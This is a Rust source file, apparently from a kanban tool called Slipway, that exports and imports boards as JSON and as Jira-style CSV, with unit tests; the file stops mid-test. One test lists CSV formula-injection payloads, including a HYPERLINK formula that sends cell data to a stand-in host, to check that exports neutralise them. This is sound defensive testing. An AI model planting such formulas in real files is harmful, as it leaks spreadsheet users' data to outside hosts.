//! Export and import of a board.
//!
//! **JSON** is the whole board with its history (`{"version": 1, "board": .., "cards": ..,
//! "epics": .., "sprints": .., "moves": .., "scope": ..}`, a [`BoardState`]); importing it
//! replaces the board and round-trips exactly.
//!
//! **CSV** is issues only, with Jira's column names, so a team can move to Jira (its CSV
//! importer maps these names) or bring a Jira export in:
//! `Issue key, Issue Type, Summary, Description, Status, Story Points, Assignee, Labels...,
//! Epic Link, Epic Name, Sprint, Created, Updated`.
//! - Labels follow Jira's convention: one `Labels` column per label (the header repeats
//!   `Labels` as often as the card with the most labels needs). On import, a `Labels` cell may
//!   also hold several labels separated by spaces (Jira labels have no spaces).
//! - Epics are rows of Issue Type `Epic` with their title in `Epic Name`; a card's `Epic Link`
//!   is its epic's key (an epic's name is accepted on import).
//! - `Status` is a column's name; `Sprint` a sprint's name (the last non-empty one when the
//!   column repeats, as in Jira exports; a sprint the board lacks is added as planned).
//! - Dates are written `YYYY-MM-DD HH:MM` in UTC (set the Jira importer's date format to
//!   `yyyy-MM-dd HH:mm`); Jira's `27/Nov/26 4:05 AM` is read too.
//! - `Custom field (Story Points)`, `Custom field (Epic Link)`, `Custom field (Epic Name)` and
//!   `Story point estimate` are read as the plain names; every other column is ignored (and
//!   listed in the report).
//!
//! A CSV import merges: a row whose key is on the board updates that card or epic; any other row
//! adds one (keeping its number when the key has the board's prefix and the number is free).
//! Links, ranks and automation keys are not in the CSV and stay as they were.
//!
//! Both imports check everything before anything changes: one bad value refuses the whole file
//! with every problem named by its line (`line 7: Story Points "abc" is not a number`).

use std::collections::{HashMap, HashSet};

use serde::{Deserialize, Serialize};

use super::dates;
use super::model::*;
use super::ops::{split_key, MAX_POINTS};
use crate::UserError;

/// The version a JSON export carries.
pub const JSON_VERSION: u32 = 1;

const REFUSED: &str = "Import refused: the board is unchanged";

#[derive(Serialize, Deserialize)]
struct JsonFile {
    version: u32,
    #[serde(flatten)]
    state: BoardState,
}

/// The whole board as pretty JSON.
pub fn export_json(s: &BoardState) -> String {
    serde_json::to_string_pretty(&JsonFile { version: JSON_VERSION, state: s.clone() }).expect("a board serializes")
}

/// Counts what an import changes, by key.
fn report(old: &BoardState, new: &BoardState, format: BoardFormat, ignored: Vec<String>) -> ImportReport {
    let cards: HashMap<&str, &Card> = old.cards.iter().map(|c| (c.key.as_str(), c)).collect();
    let epics: HashMap<&str, &Epic> = old.epics.iter().map(|e| (e.key.as_str(), e)).collect();
    let mut r = ImportReport { project: new.board.project.clone(), format: Some(format), ignored_columns: ignored, ..Default::default() };
    for c in &new.cards {
        match cards.get(c.key.as_str()) {
            None => r.cards_created += 1,
            Some(o) if *o != c => r.cards_updated += 1,
            _ => {}
        }
    }
    for e in &new.epics {
        match epics.get(e.key.as_str()) {
            None => r.epics_created += 1,
            Some(o) if *o != e => r.epics_updated += 1,
            _ => {}
        }
    }
    r.sprints_created = new.sprints.iter().filter(|s| !old.sprints.iter().any(|o| o.number == s.number)).count() as u32;
    r
}

/// Reads a JSON export and returns the board it describes (for `current`'s project), or why
/// not. Nothing is changed here: the caller stores the result.
pub fn import_json(current: &BoardState, text: &str) -> Result<(BoardState, ImportReport), UserError> {
    let file: JsonFile = serde_json::from_str(text.trim_start_matches('\u{feff}')).map_err(|e| {
        let why = if e.line() > 0 { format!("line {}, column {}: {e}", e.line(), e.column()) } else { e.to_string() };
        UserError::new(REFUSED, why, "Import a file made by `slipway board export --format json` (or fix the line named); nothing was imported")
    })?;
    if file.version != JSON_VERSION {
        return Err(UserError::new(REFUSED, format!("the file is version {}; this Slipway reads version {JSON_VERSION}", file.version), "Export it again with this version of Slipway"));
    }
    let mut state = file.state;
    state.board.project = current.board.project.clone();
    state.validate()?;
    let r = report(current, &state, BoardFormat::Json, vec![]);
    Ok((state, r))
}

// ----- CSV ----------------------------------------------------------------------------------

const JIRA_DATE: &str = "YYYY-MM-DD HH:MM";

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, carriage return at
/// the start) gets a `'` in front, which spreadsheets show as text; a cell already starting
/// with `'` gets one too, so [`unguard`] gives back exactly what was written.
pub(crate) fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => std::borrow::Cow::Owned(format!("'{cell}")),
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

/// The reverse of [`guard`] on import: one `'` before a formula character or another `'` goes.
fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) => rest,
        _ => cell,
    }
}

fn write_row(w: &mut csv::Writer<Vec<u8>>, row: &[String]) {
    w.write_record(row.iter().map(|c| guard(c).into_owned())).expect("writing to memory");
}

/// The issues as CSV with Jira's column names.
pub fn export_csv(s: &BoardState) -> String {
    let labels = s.cards.iter().map(|c| c.labels.len()).max().unwrap_or(0).max(1);
    let mut header: Vec<&str> = vec!["Issue key", "Issue Type", "Summary", "Description", "Status", "Story Points", "Assignee"];
    header.extend(std::iter::repeat_n("Labels", labels));
    header.extend(["Epic Link", "Epic Name", "Sprint", "Created", "Updated"]);
    let mut w = csv::WriterBuilder::new().from_writer(vec![]);
    w.write_record(&header).expect("writing to memory");
    let status = |cat: ColumnCategory| s.first_column(cat).map(|c| c.name.clone()).unwrap_or_default();
    let sprint_name = |n: Option<u32>| n.and_then(|n| s.sprints.iter().find(|x| x.number == n)).map(|x| x.name.clone()).unwrap_or_default();
    for e in &s.epics {
        let mut row = vec![
            e.key.clone(),
            "Epic".into(),
            e.title.clone(),
            e.description.clone(),
            status(if e.done { ColumnCategory::Done } else { ColumnCategory::Todo }),
            String::new(),
            String::new(),
        ];
        row.extend(std::iter::repeat_n(String::new(), labels));
        row.extend([String::new(), e.title.clone(), String::new(), dates::format_timestamp(e.created_at), dates::format_timestamp(e.updated_at)]);
        write_row(&mut w, &row);
    }
    for c in &s.cards {
        let mut row = vec![
            c.key.clone(),
            c.kind.jira().into(),
            c.title.clone(),
            c.description.clone(),
            s.column_by_id(&c.column).map(|x| x.name.clone()).unwrap_or_else(|| c.column.clone()),
            c.points.map(|p| p.to_string()).unwrap_or_default(),
            c.assignee.clone().unwrap_or_default(),
        ];
        row.extend((0..labels).map(|i| c.labels.get(i).cloned().unwrap_or_default()));
        row.extend([c.epic.clone().unwrap_or_default(), String::new(), sprint_name(c.sprint), dates::format_timestamp(c.created_at), dates::format_timestamp(c.updated_at)]);
        write_row(&mut w, &row);
    }
    String::from_utf8(w.into_inner().expect("flushing to memory")).expect("CSV of UTF-8 strings")
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Field {
    Key,
    Type,
    Summary,
    Description,
    Status,
    Points,
    Assignee,
    Labels,
    EpicLink,
    EpicName,
    Sprint,
    Created,
    Updated,
}

impl Field {
    fn of(header: &str) -> Option<Self> {
        let h = header.trim().to_lowercase();
        let h = h.strip_prefix("custom field (").and_then(|x| x.strip_suffix(')')).unwrap_or(&h);
        Some(match h {
            "issue key" | "key" => Self::Key,
            "issue type" | "type" => Self::Type,
            "summary" | "title" => Self::Summary,
            "description" => Self::Description,
            "status" => Self::Status,
            "story points" | "story point estimate" => Self::Points,
            "assignee" => Self::Assignee,
            "labels" | "label" => Self::Labels,
            "epic link" => Self::EpicLink,
            "epic name" => Self::EpicName,
            "sprint" => Self::Sprint,
            "created" => Self::Created,
            "updated" => Self::Updated,
            _ => return None,
        })
    }

    /// Fields that may repeat.
    fn repeats(self) -> bool {
        matches!(self, Self::Labels | Self::Sprint)
    }
}

/// One row, checked.
struct Row {
    line: u64,
    key: Option<String>,
    epic: bool,
    kind: CardKind,
    summary: String,
    description: Option<String>,
    status: Option<String>,
    points: Option<Option<u32>>,
    assignee: Option<Option<String>>,
    labels: Option<Vec<String>>,
    epic_link: Option<Option<String>>,
    sprint: Option<Option<String>>,
    created: Option<i64>,
    updated: Option<i64>,
}

fn parse_kind(s: &str) -> Option<(bool, CardKind)> {
    Some(match s.trim().to_lowercase().as_str() {
        "" | "task" | "sub-task" | "subtask" => (false, CardKind::Task),
        "story" | "improvement" | "new feature" | "feature" => (false, CardKind::Story),
        "bug" => (false, CardKind::Bug),
        "epic" => (true, CardKind::Task),
        _ => return None,
    })
}

fn parse_points(s: &str) -> Result<Option<u32>, String> {
    let t = s.trim();
    if t.is_empty() {
        return Ok(None);
    }
    let v: f64 = t.parse().map_err(|_| format!("Story Points \"{t}\" is not a number"))?;
    if !v.is_finite() || v < 0.0 || v.fract() != 0.0 {
        return Err(format!("Story Points \"{t}\" is not a whole number of 0 or more"));
    }
    if v > MAX_POINTS as f64 {
        return Err(format!("Story Points \"{t}\" is more than {MAX_POINTS}"));
    }
    Ok(Some(v as u32))
}

/// Reads a CSV of issues (Jira's column names) and returns the board with them merged in, or
/// every problem by line. Nothing is changed here: the caller stores the result.
pub fn import_csv(current: &BoardState, text: &str, now: i64) -> Result<(BoardState, ImportReport), UserError> {
    let fix_line = |errors: &[String]| -> String {
        let first = errors.first().and_then(|e| e.strip_prefix("line ")).and_then(|e| e.split(':').next()).unwrap_or("");
        if first.is_empty() {
            "Fix the file and import it again; nothing was imported".into()
        } else if errors.len() == 1 {
            format!("Fix line {first} and import the file again; nothing was imported")
        } else {
            format!("Fix the {} lines named (from line {first}) and import the file again; nothing was imported", errors.len())
        }
    };
    let refuse = |errors: Vec<String>| UserError::new(REFUSED, errors.join("; "), fix_line(&errors));
    let csv_error = |e: csv::Error| {
        let line = e.position().map(|p| p.line()).unwrap_or(0);
        let why = match e.kind() {
            csv::ErrorKind::UnequalLengths { expected_len, len, .. } => format!("it has {len} fields where the header has {expected_len}"),
            csv::ErrorKind::Utf8 { .. } => "it is not UTF-8 text".to_string(),
            _ => e.to_string(),
        };
        vec![format!("line {line}: {why}")]
    };

    let text = text.trim_start_matches('\u{feff}');
    let mut rdr = csv::ReaderBuilder::new().has_headers(true).flexible(false).from_reader(text.as_bytes());
    let headers = rdr.headers().map_err(|e| refuse(csv_error(e)))?.clone();
    let mut cols: Vec<(usize, Field)> = vec![];
    let mut ignored = vec![];
    let mut seen = HashSet::new();
    for (i, h) in headers.iter().enumerate() {
        match Field::of(h) {
            Some(f) => {
                if !seen.insert(f) && !f.repeats() {
                    return Err(refuse(vec![format!("line 1: the column \"{}\" appears twice", h.trim())]));
                }
                cols.push((i, f));
            }
            None if h.trim().is_empty() => {}
            None => ignored.push(h.trim().to_string()),
        }
    }
    if !seen.contains(&Field::Summary) {
        return Err(refuse(vec![format!("line 1: there is no Summary column (the header has: {})", headers.iter().collect::<Vec<_>>().join(", "))]));
    }

    // Pass 1: every row on its own.
    let mut errors: Vec<String> = vec![];
    let mut rows: Vec<Row> = vec![];
    let mut record = csv::StringRecord::new();
    loop {
        match rdr.read_record(&mut record) {
            Ok(false) => break,
            Ok(true) => {}
            Err(e) => {
                errors.extend(csv_error(e));
                break;
            }
        }
        let line = record.position().map(|p| p.line()).unwrap_or(0);
        if record.iter().all(|f| f.trim().is_empty()) {
            continue;
        }
        let mut err = |why: String| errors.push(format!("line {line}: {why}"));
        let get = |f: Field| cols.iter().filter(|(_, x)| *x == f).map(|(i, _)| unguard(record.get(*i).unwrap_or(""))).collect::<Vec<_>>();
        let one = |f: Field| get(f).into_iter().next();
        let has = |f: Field| seen.contains(&f);

        let key = one(Field::Key).map(str::trim).filter(|k| !k.is_empty()).map(str::to_string);
        if let Some(k) = &key {
            if split_key(k).is_none() {
                err(format!("Issue key \"{k}\" is not a key like SLP-12"));
            }
        }
        let (epic, kind) = match parse_kind(one(Field::Type).unwrap_or("")) {
            Some(x) => x,
            None => {
                err(format!("Issue Type \"{}\" is not Story, Task, Bug or Epic", one(Field::Type).unwrap_or("").trim()));
                (false, CardKind::Task)
            }
        };
        let summary = one(Field::Summary).unwrap_or("").trim().to_string();
        let epic_name = one(Field::EpicName).map(str::trim).filter(|s| !s.is_empty()).map(str::to_string);
        let summary = if summary.is_empty() && epic { epic_name.clone().unwrap_or_default() } else { summary };
        if summary.is_empty() {
            err("Summary is empty".into());
        } else if summary.chars().count() > super::ops::MAX_TITLE {
            err(format!("Summary is longer than {} characters", super::ops::MAX_TITLE));
        }
        let status = one(Field::Status).map(str::trim).filter(|s| !s.is_empty()).map(str::to_string);
        if let Some(st) = &status {
            if current.find_column(st).is_none() {
                err(format!(
                    "Status \"{st}\" is not a column of this board (columns: {})",
                    current.board.columns.iter().map(|c| c.name.as_str()).collect::<Vec<_>>().join(", ")
                ));
            }
        }
        let points = if has(Field::Points) {
            match parse_points(one(Field::Points).unwrap_or("")) {
                Ok(p) => Some(p),
                Err(e) => {
                    err(e);
                    None
                }
            }
        } else {
            None
        };
        if epic && points.flatten().is_some() {
            err("an Epic cannot have Story Points here".into());
        }
        let labels = has(Field::Labels).then(|| {
            let mut v: Vec<String> = vec![];
            for l in get(Field::Labels).iter().flat_map(|s| s.split_whitespace()) {
                if !v.iter().any(|x| x == l) {
                    v.push(l.to_string());
                }
            }
            v
        });
        let stamp = |f: Field, name: &str, err: &mut dyn FnMut(String)| -> Option<i64> {
            let v = one(f)?.trim();
            if v.is_empty() {
                return None;
            }
            let t = dates::parse_timestamp(v);
            if t.is_none() {
                err(format!("{name} \"{v}\" is not a date (use {JIRA_DATE})"));
            }
            t
        };
        let created = stamp(Field::Created, "Created", &mut err);
        let updated = stamp(Field::Updated, "Updated", &mut err);
        let opt = |f: Field| has(f).then(|| one(f).map(str::trim).filter(|s| !s.is_empty()).map(str::to_string));
        rows.push(Row {
            line,
            key,
            epic,
            kind,
            summary,
            description: has(Field::Description).then(|| one(Field::Description).unwrap_or("").to_string()),
            status,
            points,
            assignee: opt(Field::Assignee),
            labels,
            epic_link: opt(Field::EpicLink),
            sprint: has(Field::Sprint).then(|| get(Field::Sprint).into_iter().rev().map(str::trim).find(|s| !s.is_empty()).map(str::to_string)),
            created,
            updated,
        });
    }

    // Pass 2: the rows together and against the board.
    let mut keys: HashMap<String, u64> = HashMap::new();
    for r in &rows {
        if let Some(k) = &r.key {
            if let Some(first) = keys.insert(k.to_uppercase(), r.line) {
                errors.push(format!("line {}: Issue key {k} appears twice (first on line {first})", r.line));
            }
            let is_card = current.cards.iter().any(|c| c.key.eq_ignore_ascii_case(k));
            let is_epic = current.epics.iter().any(|e| e.key.eq_ignore_ascii_case(k));
            if r.epic && is_card {
                errors.push(format!("line {}: {k} is a card on this board, not an epic", r.line));
            }
            if !r.epic && is_epic {
                errors.push(format!("line {}: {k} is an epic on this board, not a {}", r.line, r.kind.jira()));
            }
        }
    }
    let file_epics: Vec<&Row> = rows.iter().filter(|r| r.epic).collect();
    let epic_ref_ok = |link: &str| {
        current.find_epic(link).is_some()
            || file_epics.iter().any(|r| r.key.as_deref().is_some_and(|k| k.eq_ignore_ascii_case(link)) || r.summary.eq_ignore_ascii_case(link))
    };
    for r in rows.iter().filter(|r| !r.epic) {
        if let Some(Some(link)) = &r.epic_link {
            if !epic_ref_ok(link) {
                errors.push(format!("line {}: Epic Link \"{link}\" is not an epic of this board or of the file", r.line));
            }
        }
        if let Some(Some(sp)) = &r.sprint {
            if sp.parse::<u32>().is_ok() {
                errors.push(format!("line {}: Sprint \"{sp}\" is a number; use the sprint's name", r.line));
            }
        }
    }
    if !errors.is_empty() {
        errors.sort_by_key(|e| e.strip_prefix("line ").and_then(|x| x.split(':').next()).and_then(|n| n.parse::<u64>().ok()).unwrap_or(0));
        return Err(refuse(errors));
    }

    // Pass 3: apply to a copy (a refusal here, too, names the line and changes nothing).
    let mut s = current.clone();
    let wanted_number = |s: &BoardState, key: &Option<String>| {
        key.as_deref().and_then(split_key).filter(|(p, _)| p.eq_ignore_ascii_case(&s.board.key_prefix)).map(|(_, n)| n)
    };
    let at_line = |line: u64, e: UserError| refuse(vec![format!("line {line}: {}", e.why)]);
    let mut epic_keys: HashMap<u64, String> = HashMap::new();
    for r in &file_epics {
        let existing = r.key.as_deref().and_then(|k| s.epics.iter().find(|e| e.key.eq_ignore_ascii_case(k))).cloned();
        let done = r.status.as_deref().and_then(|st| s.find_column(st)).map(|c| c.category == ColumnCategory::Done);
        match existing {
            Some(e) => {
                let input = EpicInput {
                    title: r.summary.clone(),
                    description: r.description.clone().unwrap_or(e.description.clone()),
                    color: e.color.clone(),
                    done: done.unwrap_or(e.done),
                };
                s.update_epic(&e.key, input, now).map_err(|e| at_line(r.line, e))?;
                epic_keys.insert(r.line, e.key);
            }
            None => {
                let input = EpicInput { title: r.summary.clone(), description: r.description.clone().unwrap_or_default(), color: None, done: done.unwrap_or(false) };
                let n = wanted_number(&s, &r.key);
                let k = s.add_epic_as(input, n, None, Actor::User, now).map_err(|e| at_line(r.line, e))?;
                let e = s.epics.iter_mut().find(|e| e.key == k).expect("just added");
                e.created_at = r.created.unwrap_or(now);
                e.updated_at = r.updated.unwrap_or(now);
                epic_keys.insert(r.line, k);
            }
        }
    }
    let resolve_epic = |s: &BoardState, link: &str| -> Option<String> {
        let by_file = file_epics.iter().find(|r| r.key.as_deref().is_some_and(|k| k.eq_ignore_ascii_case(link))).or_else(|| file_epics.iter().find(|r| r.summary.eq_ignore_ascii_case(link)));
        match by_file {
            Some(r) => epic_keys.get(&r.line).cloned(),
            None => s.find_epic(link).map(|e| e.key.clone()),
        }
    };
    let note = Some("imported".to_string());
    for r in rows.iter().filter(|r| !r.epic) {
        let sprint = match &r.sprint {
            Some(Some(name)) => Some(Some(match s.find_sprint(name) {
                Some(sp) => sp.number,
                None => s.add_sprint(SprintInput { name: Some(name.clone()), ..Default::default() }, now).map_err(|e| at_line(r.line, e))?,
            })),
            Some(None) => Some(None),
            None => None,
        };
        let epic = match &r.epic_link {
            Some(Some(link)) => Some(resolve_epic(&s, link)),
            Some(None) => Some(None),
            None => None,
        };
        let existing = r.key.as_deref().and_then(|k| s.cards.iter().find(|c| c.key.eq_ignore_ascii_case(k))).cloned();
        match existing {
            Some(c) => {
                let input = CardInput {
                    title: r.summary.clone(),
                    description: r.description.clone().unwrap_or(c.description.clone()),
                    kind: r.kind,
                    epic: epic.unwrap_or(c.epic.clone()),
                    sprint: sprint.unwrap_or(c.sprint),
                    points: r.points.unwrap_or(c.points),
                    assignee: r.assignee.clone().unwrap_or(c.assignee.clone()),
                    labels: r.labels.clone().unwrap_or(c.labels.clone()),
                    links: c.links.clone(),
                    column: None,
                };
                s.update_card(&c.key, input, Actor::User, now).map_err(|e| at_line(r.line, e))?;
                if let Some(st) = &r.status {
                    let to = s.find_column(st).expect("checked in pass 1").id.clone();
                    if to != c.column {
                        s.move_card_inner(&c.key, &to, None, Actor::User, note.clone(), now, false).map_err(|e| at_line(r.line, e))?;
                    }
                }
            }
            None => {
                let input = CardInput {
                    title: r.summary.clone(),
                    description: r.description.clone().unwrap_or_default(),
                    kind: r.kind,
                    epic: epic.flatten(),
                    sprint: sprint.flatten(),
                    points: r.points.flatten(),
                    assignee: r.assignee.clone().flatten(),
                    labels: r.labels.clone().unwrap_or_default(),
                    links: vec![],
                    column: r.status.clone(),
                };
                let n = wanted_number(&s, &r.key);
                let k = s.add_card_as(input, n, None, Actor::User, note.clone(), now).map_err(|e| at_line(r.line, e))?;
                let c = s.cards.iter_mut().find(|c| c.key == k).expect("just added");
                c.created_at = r.created.unwrap_or(now);
                c.updated_at = r.updated.unwrap_or(now);
            }
        }
    }
    let rep = report(current, &s, BoardFormat::Csv, ignored);
    Ok((s, rep))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> BoardState {
        let mut b = BoardState::new("shop", 1_700_000_000_000);
        let now = 1_700_000_100_000;
        let e = b.add_epic(EpicInput { title: "Checkout".into(), description: "Pay, \"quickly\"".into(), ..Default::default() }, Actor::User, now).unwrap();
        b.add_sprint(SprintInput { name: Some("Sprint A".into()), goal: "Go".into(), start: Some("2026-03-02".into()), end: Some("2026-03-13".into()) }, now).unwrap();
        b.add_card(
            CardInput {
                title: "Card form".into(),
                description: "Line one\nline \"two\", with a comma".into(),
                kind: CardKind::Story,
                epic: Some(e.clone()),
                sprint: Some(1),
                points: Some(5),
                assignee: Some("ana".into()),
                labels: vec!["ui".into(), "payments".into()],
                links: vec![CardLink { kind: LinkKind::Url, target: "https://example.com/x".into(), label: None }],
                column: Some("In progress".into()),
            },
            Actor::User,
            now,
        )
        .unwrap();
        b.add_card(CardInput { title: "Flaky test".into(), kind: CardKind::Bug, points: Some(2), ..Default::default() }, Actor::Automation, now).unwrap();
        b.add_card(CardInput { title: "Done thing".into(), column: Some("done".into()), sprint: Some(1), points: Some(1), ..Default::default() }, Actor::User, now).unwrap();
        b
    }

    #[test]
    fn json_round_trips_the_whole_board() {
        let b = sample();
        let text = export_json(&b);
        let mut other = BoardState::new("shop", 5);
        other.add_card(CardInput { title: "Will be replaced".into(), ..Default::default() }, Actor::User, 6).unwrap();
        let (got, r) = import_json(&other, &text).unwrap();
        assert_eq!(got, b);
        assert_eq!((r.cards_created, r.cards_updated, r.epics_created), (3, 0, 1), "{r:?}");
        // Into another project: same content, that project's id.
        let (got, _) = import_json(&BoardState::new("web", 1), &text).unwrap();
        assert_eq!(got.board.project, "web");
        assert_eq!(got.cards, b.cards);
    }

    #[test]
    fn bad_json_is_refused_with_the_line_or_the_card() {
        let b = sample();
        let e = import_json(&b, "{\n  \"version\": 1,\n  \"board\": nope\n}").unwrap_err();
        assert_eq!(e.what, REFUSED);
        assert!(e.why.starts_with("line 3, column"), "{e}");
        let mut v: serde_json::Value = serde_json::from_str(&export_json(&b)).unwrap();
        v["cards"][0]["column"] = "blocked".into();
        let e = import_json(&b, &v.to_string()).unwrap_err();
        assert!(e.why.contains("card SHP-3 is in column \"blocked\""), "{e}");
        v["version"] = 9.into();
        assert!(import_json(&b, &v.to_string()).unwrap_err().why.contains("version 9"));
    }

    #[test]
    fn csv_has_jiras_columns_and_repeats_labels() {
        let text = export_csv(&sample());
        let first = text.lines().next().unwrap();
        assert_eq!(first, "Issue key,Issue Type,Summary,Description,Status,Story Points,Assignee,Labels,Labels,Epic Link,Epic Name,Sprint,Created,Updated");
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
        assert_eq!(rows[0].iter().take(5).collect::<Vec<_>>(), ["SHP-1", "Epic", "Checkout", "Pay, \"quickly\"", "To do"]);
        assert_eq!(&rows[0][10], "Checkout");
        assert_eq!(rows.iter().map(|r| &r[0]).collect::<Vec<_>>(), ["SHP-1", "SHP-3", "SHP-2", "SHP-4"], "epics, then cards by column and rank");
        let card = &rows[2];
        assert_eq!(card.iter().take(9).collect::<Vec<_>>(), ["SHP-2", "Story", "Card form", "Line one\nline \"two\", with a comma", "In progress", "5", "ana", "ui", "payments"]);
        assert_eq!(&card[9], "SHP-1");
        assert_eq!(&card[11], "Sprint A");
        assert_eq!(&card[12], "2023-11-14 22:15");
    }

    #[test]
    fn csv_round_trip_into_the_same_board_changes_nothing_and_into_a_new_one_keeps_every_field() {
        let b = sample();
        let text = export_csv(&b);
        let (same, r) = import_csv(&b, &text, 9).unwrap();
        assert_eq!(same, b, "{r:?}");
        assert_eq!((r.cards_created, r.cards_updated, r.epics_updated), (0, 0, 0));

        let (fresh, r) = import_csv(&BoardState::new("shop", 1), &text, 9).unwrap();
        assert_eq!((r.cards_created, r.epics_created, r.sprints_created), (3, 1, 1), "{r:?}");
        let strip = |s: &BoardState| {
            s.cards
                .iter()
                .map(|c| (c.key.clone(), c.kind, c.title.clone(), c.description.clone(), c.column.clone(), c.points, c.assignee.clone(), c.labels.clone(), c.epic.clone(), c.sprint))
                .collect::<Vec<_>>()
        };
        assert_eq!(strip(&fresh), strip(&b));
        assert_eq!(fresh.epics[0].title, "Checkout");
        assert_eq!(fresh.sprints[0].name, "Sprint A");
        assert_eq!(fresh.cards[0].created_at, 1_700_000_100_000 / 60_000 * 60_000, "dates to the minute");
        // The same text once more into the fresh board: nothing to do.
        let (again, r) = import_csv(&fresh, &text, 10).unwrap();
        assert_eq!(again, fresh, "{r:?}");
    }

    #[test]
    fn a_malformed_csv_names_every_bad_line_and_changes_nothing() {
        let b = sample();
        let text = "Issue key,Summary,Story Points,Status,Labels,Labels,Epic Link,Created\n\
                    SHP-2,Card form,5,In progress,ui,,,\n\
                    ,New one,3,To do,a,b,Checkout,2026-01-01 10:00\n\
                    ,Bad points,abc,To do,,,,\n\
                    ,Bad status,1,Blocked,,,,\n\
                    X,Bad key,1,,,,,\n\
                    ,,2,,,,,\n\
                    ,Bad epic,1,,,,Nope,\n\
                    ,Bad date,1,,,,,tomorrow\n";
        let e = import_csv(&b, text, 9).unwrap_err();
        assert_eq!(e.what, REFUSED);
        assert!(e.why.starts_with("line 4: Story Points \"abc\" is not a number"), "{e}");
        for part in [
            "line 5: Status \"Blocked\" is not a column of this board (columns: To do, In progress, In review, Done)",
            "line 6: Issue key \"X\" is not a key like SLP-12",
            "line 7: Summary is empty",
            "line 8: Epic Link \"Nope\" is not an epic",
            "line 9: Created \"tomorrow\" is not a date (use YYYY-MM-DD HH:MM)",
        ] {
            assert!(e.why.contains(part), "{part} missing from {e}");
        }
        assert!(e.fix.contains("from line 4"), "{e:?}");

        let e = import_csv(&b, "Summary,Story Points\nA,1\nB,2,3\n", 9).unwrap_err();
        assert_eq!(e.why, "line 3: it has 3 fields where the header has 2");
        assert_eq!(e.fix, "Fix line 3 and import the file again; nothing was imported");
        let e = import_csv(&b, "Key,Title Of Thing\nA,1\n", 9).unwrap_err();
        assert!(e.why.starts_with("line 1: there is no Summary column"), "{e}");
        let e = import_csv(&b, "Summary,Status,Status\nA,To do,Done\n", 9).unwrap_err();
        assert!(e.why.contains("\"Status\" appears twice"), "{e}");
        let e = import_csv(&b, "Issue key,Summary\nSHP-7,A\nshp-7,B\n", 9).unwrap_err();
        assert!(e.why.contains("line 3: Issue key shp-7 appears twice (first on line 2)"), "{e}");
        let e = import_csv(&b, "Issue key,Issue Type,Summary\nSHP-1,Task,A\n", 9).unwrap_err();
        assert!(e.why.contains("line 2: SHP-1 is an epic on this board"), "{e}");
    }

    #[test]
    fn a_jira_export_merges_in() {
        let b = sample();
        let text = "\u{feff}Summary,Issue key,Issue id,Issue Type,Status,Custom field (Story Points),Labels,Labels,Sprint,Sprint,Custom field (Epic Link),Created\n\
                    Card form renamed,SHP-2,10002,Story,Done,8.0,ui payments,,Sprint A,,Checkout,14/Nov/23 10:15 PM\n\
                    From Jira,JRA-41,10041,Improvement,In Review,3,,,Sprint A,Sprint 9,SHP-1,01/Dec/25 9:00 AM\n";
        let (s, r) = import_csv(&b, text, 1_800_000_000_000).unwrap();
        assert_eq!(r.ignored_columns, ["Issue id"]);
        assert_eq!((r.cards_created, r.cards_updated, r.sprints_created), (1, 1, 1));
        let c = s.find_card("SHP-2").unwrap();
        assert_eq!((c.title.as_str(), c.points, c.column.as_str()), ("Card form renamed", Some(8), "done"));
        assert_eq!(c.labels, ["ui", "payments"]);
        assert_eq!(c.links.len(), 1, "links are not in the CSV and stay");
        let m = s.moves.last().unwrap();
        assert_eq!((m.card.as_str(), m.note.as_deref()), ("SHP-5", Some("imported")));
        let n = s.find_card("SHP-5").unwrap();
        assert_eq!((n.kind, n.column.as_str(), n.epic.as_deref(), n.points), (CardKind::Story, "in-review", Some("SHP-1"), Some(3)));
        assert_eq!(s.find_sprint("Sprint 9").unwrap().number, n.sprint.unwrap(), "the last sprint named, added as planned");
        assert_eq!(s.scope.iter().filter(|x| x.kind == ScopeChangeKind::Points).count(), 1, "the re-estimate is a scope change");
        // Numbers of the board's own prefix are kept when free.
        let (s, _) = import_csv(&BoardState::new("shop", 1), "Issue key,Summary\nSHP-40,A\n,B\n", 2).unwrap();
        assert_eq!(s.cards.iter().map(|c| c.key.as_str()).collect::<Vec<_>>(), ["SHP-40", "SHP-41"]);
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_kept_as_text_and_come_back_unchanged() {
        let mut b = BoardState::new("shop", 1);
        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1", "'=already quoted", "'plain quote", "fine = text"];
        for t in hostile {
            b.add_card(CardInput { title: t.into(), description: t.into(), assignee: Some(t.into()), labels: vec![t.replace(' ', "_")], ..Default::default() }, Actor::User, 2).unwrap();
        }
        let text = export_csv(&b);
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let mut cells = 0;
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}\n{text}");
                cells += 1;
            }
        }
        let (back, _) = import_csv(&BoardState::new("shop", 1), &text, 3).unwrap();
        assert_eq!(back.cards.len(), hostile.len());
        for (c, orig) in back.cards.iter().zip(&b.cards) {
            // Titles and names are trimmed when a card is made; what the board held comes back.
            assert_eq!((&c.title, &c.description, &c.assignee, &c.labels), (&orig.title, &orig.description, &orig.assignee, &orig.labels), "round trip");
        }
        assert!(b.cards.iter().any(|c| c.description.starts_with('\t')) && b.cards.iter().any(|c| c.title.starts_with('=')));
        // A Jira file's own quote-guarded cell reads as the text it stands for.
        let (j, _) = import_csv(&BoardState::new("shop", 1), "Summary\n'=1+1\n'hello\n", 3).unwrap();
        assert_eq!(j.cards.iter().map(|c| c.title.as_str()).collect::<Vec<_>>(), ["=1+1", "'hello"]);
        println!("hostile CSV cells written as text: {cells} cells, {} formulas tried", hostile.len());
    }

    #[test]
    fn numbers_near_the_end_of_u32_are_refused_not_a_panic() {
        let b = sample();
        for big in [u32::MAX, u32::MAX - 1, super::super::ops::MAX_NUMBER + 1] {
